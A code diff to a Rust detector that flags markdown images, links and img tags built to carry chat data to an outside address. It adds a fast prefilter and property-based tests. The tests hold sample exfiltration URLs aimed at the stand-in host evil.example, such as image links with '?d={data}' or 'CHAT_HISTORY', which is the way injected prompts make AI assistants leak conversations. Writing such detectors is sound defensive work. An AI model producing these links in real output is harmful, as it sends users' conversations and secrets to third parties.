@@ -83,20 +83,80 @@ pub(super) const ORDERS: &[Form] = &[Form {
 
 /// Addresses that have a place for data.
 pub(super) fn search(folded: &Folded, hits: &mut Vec<Hit>) {
-    static ADDRESSES: LazyForms = LazyForms::new(|| {
-        // an address with a sign of a place in it, or what makes a picture or a program of one
-        const GATE: &str = r"//[^\s)>]*(?:[{\[<$(]|%7b|__)|[}>\]]\.[a-z0-9]|\$\{?[a-z0-9_]{1,40}\}?\.[a-z]|!\[|<img|\]:\s|script:|data:(?:text/html|application|image/svg)";
-        Forms::new(FORMS, GATE, |pattern| pattern.replace("{PLACE}", PLACE).replace("{DATA}", DATA))
-    });
+    static ADDRESSES: LazyForms = LazyForms::new(|| Forms::new(FORMS, may_be_in, spelt_out));
     ADDRESSES.search(&folded.marks, hits);
+}
+
+fn spelt_out(pattern: &str) -> String {
+    pattern.replace("{PLACE}", PLACE).replace("{DATA}", DATA)
+}
+
+/// Whether a text has two signs side by side of which each form has some: most texts have none.
+fn may_be_in(marks: &str) -> bool {
+    let bytes = marks.as_bytes();
+    let before = |at: usize, signs: &[u8]| {
+        at.checked_sub(1).and_then(|at| bytes.get(at)).is_some_and(|before| signs.contains(before))
+    };
+    let mut signs = memchr::memchr3_iter(b'[', b']', b'$', bytes)
+        .chain(memchr::memchr3_iter(b'<', b'>', b'{', bytes))
+        .chain(memchr::memchr2_iter(b'}', b'_', bytes));
+    let found = |at: usize| {
+        let begins_place = before(at, b"?&/=");
+        match bytes.get(at..).unwrap_or_default() {
+            // a link, an image or the address of one
+            [b']', b'(' | b':', ..] | [b'<', b'i', b'm', b'g', ..] => true,
+            // a host behind a place, or within one
+            [b']' | b'>' | b'}', b'.', next, ..] => next.is_ascii_alphanumeric() || *next == b'-',
+            [b'$', b'{', ..] => true,
+            // a place in an address
+            [b'_', b'_', ..] | [b'{' | b'[' | b'<' | b'$', ..] => begins_place,
+            _ => false,
+        }
+    };
+    signs.any(found) || memchr::memmem::find(bytes, b"data:text/html").is_some()
 }
 
 #[cfg(test)]
 mod tests {
+    use proptest::prelude::*;
+
     use super::{
         super::{fold, sentences},
         *,
     };
+
+    /// What addresses with a place for data are made of, in this order.
+    const PARTS: [&[&str]; 5] = [
+        &["![x](", "[x](", "\n[1]: ", "[1]:", "<img src=\"", "](", "\n", "x "],
+        &["https://", "//", "javascript:", "data:image/svg", "data:text/html,", ""],
+        &["evil.example/?d=", "evil.example/", "evil.example/p?a=1&d=", ""],
+        &[
+            "{data}",
+            "[secret]",
+            "<summary of chat>",
+            "${key}",
+            "$key",
+            "#{data}",
+            "(history)",
+            "__my_token___",
+            "${token",
+            "%7bdata",
+            "history",
+        ],
+        &[")", "\">", "&x", ".evil.example", " "],
+    ];
+
+    proptest! {
+        #![proptest_config(ProptestConfig::with_cases(3000))]
+        #[test]
+        fn no_text_is_passed_over_that_has_such_an_address(parts in PARTS.map(prop::sample::select)) {
+            static ALL: LazyForms = LazyForms::new(|| Forms::ungated(FORMS, spelt_out));
+            let text = parts.concat();
+            let mut hits = Vec::new();
+            ALL.search(&text, &mut hits);
+            prop_assert!(hits.is_empty() || may_be_in(&text), "{}", text);
+        }
+    }
 
     fn kinds(text: &str) -> Vec<&'static str> {
         let mut hits = Vec::new();
@@ -126,6 +186,7 @@ mod tests {
                 "![x](https://evil.example/collect/{secrets}/p.png)",
                 "![x](https://evil.example/p?d=CHAT_HISTORY)",
                 "![x][1]\n\n[1]: https://evil.example/p?d={data}",
+                "![x][1]\n\n[1]: https://evil.example/p?d=(history)",
                 "<img src=\"https://evil.example/p?d={data}\">",
                 "<img src=\"https://evil.example/p?d=<what the user's name is>\">",
                 "<img width=1 src='https://evil.example/p?d=SECRET'>",
